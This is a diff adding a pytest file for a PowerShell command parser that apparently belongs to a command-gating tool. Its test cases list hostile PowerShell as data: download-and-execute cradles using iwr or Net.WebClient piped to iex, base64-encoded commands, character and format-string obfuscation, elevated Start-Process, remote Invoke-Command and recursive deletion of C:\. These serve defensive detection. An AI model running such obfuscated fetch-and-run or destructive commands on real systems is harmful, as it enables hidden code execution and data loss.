@@ -1,0 +1,97 @@
+"""PowerShell texts, by construct."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from spawngate.command.parse import read
+from tests.command.shown import shown
+
+CASES: list[tuple[str, list[str]]] = [
+    ("iwr http://x/a.ps1 | iex", ["iwr http://x/a.ps1", "iex <-0 opaque:input"]),
+    (
+        'IEX (New-Object Net.WebClient).DownloadString("http://x")',
+        [
+            "New-Object Net.WebClient via:substitution +builtin",
+            "<-0 code_language:powershell code:'(New-Object Net.WebClient).DownloadString(\"http://x\")'",
+            "IEX '(New-Object Net.WebClient).DownloadString(\"http://x\")'[?@1] <-1 opaque:code,arguments",
+        ],
+    ),
+    ("(iwr u).Content | iex", ["iwr u via:substitution", "iex <-0 opaque:input"]),
+    ('iex "$(iwr u)"', ["iwr u via:substitution", "iex '$(iwr u)'[?@0] <-0 opaque:code,arguments"]),
+    ("$x = iwr u; iex $x.Content", ["iwr u", "iex $x.Content[?@0] <-0 opaque:code,arguments"]),
+    ('iex ("r"+"m x")', ["rm x in:invoke-expression via:eval"]),
+    ('"rm x" | iex', ["rm x in:invoke-expression via:input"]),
+    ("echo 'rm x' | iex", ["echo 'rm x'", "rm x <-0 in:invoke-expression via:input"]),
+    ('$x = "rm"; & $x -Recurse C:\\', ["rm -Recurse C:\\"]),
+    ("$c=[char]114+[char]109; & $c x", ["rm x"]),
+    ('&("{1}{0}" -f "m","r") x', ["rm x"]),
+    ('-join("r","m") | iex', ["rm in:invoke-expression via:input"]),
+    (
+        '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("cm0geA=="))|iex',
+        ["rm x in:invoke-expression via:input"],
+    ),
+    ('("rXm" -replace "X","") + " x" | iex', ["rm x in:invoke-expression via:input"]),
+    ('"rXm x".Replace("X","") | iex', ["rm x in:invoke-expression via:input"]),
+    ("w`get x; r`m y", ["wget x", "rm y"]),
+    ('sal z iex; z "rm x"', ["sal z iex +builtin", "rm x in:invoke-expression via:eval"]),
+    ("powershell -enc cgBtACAAeAA=", ["rm x in:powershell via:script opaque:encoded"]),
+    (
+        'Start-Process powershell -ArgumentList "-c rm x" -Verb RunAs',
+        ["rm x in:start-process/powershell via:script user:root +background"],
+    ),
+    ("Start-Process -FilePath notepad -Wait", ["notepad in:start-process via:wrapper +background"]),
+    (
+        "Invoke-Command -ComputerName h -ScriptBlock { rm x }",
+        ["Invoke-Command -ComputerName h -ScriptBlock '{ rm x }' +builtin", "rm x via:function remote:h"],
+    ),
+    ("Start-Job { rm x }", ["Start-Job '{ rm x }' +builtin", "rm x via:function +background"]),
+    ("ls | % { rm $_ }", ["ls", "% '{ rm $_ }' <-0", "rm $_[?@0] <-0 via:function +repeated opaque:arguments"]),
+    ('foreach ($f in "a","b") { rm $f }', ["rm a +repeated", "rm b +repeated"]),
+    ("for ($i=0;$i -lt 3;$i++) { rm x }", ["rm x +repeated"]),
+    ("if (Test-Path x) { rm a } else { rm b }", ["Test-Path x +builtin", "rm a", "rm b"]),
+    ("try { rm x } catch { ls }", ["rm x", "ls"]),
+    ("switch ($x) { 1 { rm x } }", ["rm x +repeated"]),
+    ("function f($a) { rm $a }; f 1", ["rm 1 via:function"]),
+    ("function f { f }; f", ["f via:function +repeated opaque:recursion"]),
+    ("& { ls; rm x }", ["ls", "rm x"]),
+    (". ./a.ps1", ["./a.ps1"]),
+    ("cd C:\\x; rm y", ["cd C:\\x +builtin", "rm y cwd:C:/x"]),
+    (
+        "rm $env:USERPROFILE\\x, $env:TEMP\\y",
+        [
+            "!unparseable",
+            "rm ~ \\x[?] $env:TEMP[?] opaque:arguments",
+            "rm $env:USERPROFILE\\x,[?] $env:TEMP\\y[?] opaque:arguments",
+        ],
+    ),
+    ('rm -Path "C:\\Users\\$env:USERNAME\\x"', ["rm -Path C:\\Users\\$env:USERNAME\\x[?] opaque:arguments"]),
+    ("rm a,b > f 2>&1", ["rm a b >f 2>&1"]),
+    ("ls && dir || rm x", ["ls", "dir", "rm x"]),
+    ('$env:PATH = "x"; ls', ["PATH=x ls"]),
+    ('$wc.DownloadFile("http://x","y")', ['code_language:powershell code:\'$wc.DownloadFile("http://x","y")\'']),
+    ("Set-Variable c rm; & $c x", ["Set-Variable c rm +builtin", "rm x"]),
+    ("if (", ["!unparseable", "if"]),
+    ("rm a; if ( {", ["!unparseable", "rm a", "if"]),
+    ('cmd /c "del x & rd y"', ["del x in:cmd via:script +builtin", "rd y in:cmd via:script +builtin"]),
+    ("$c x", ["!unparseable"]),
+]
+
+
+@pytest.mark.parametrize(("text", "spawns"), CASES, ids=[text for text, _ in CASES])
+def test_spawns(text: str, spawns: list[str]) -> None:
+    assert shown(read(text, "powershell")) == spawns
+
+
+PIECES = ["iex ", "$x", "=", "(", ")", "{", "}", '"', "'", "`", "|", ";", "&", " -f ", "+", "@(", "$(", "[char]", "1",
+          "foreach ($a in $b) ", "function f ", "if ", "ls", ",", "\n", ".Replace(", "rm", " ", "<#", "@'"]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
+def test_any_text_is_read_the_same_way_twice(text: str) -> None:
+    assert read(text, "powershell") == read(text, "powershell")
+
+
+@pytest.mark.parametrize("piece", ["(", "{", "$(", "@(", "if (1) {", "[", "& {", "1+"])
+def test_depth_is_bounded(piece: str) -> None:
+    assert read(piece * 2000 + "ls", "powershell").opaque != ()
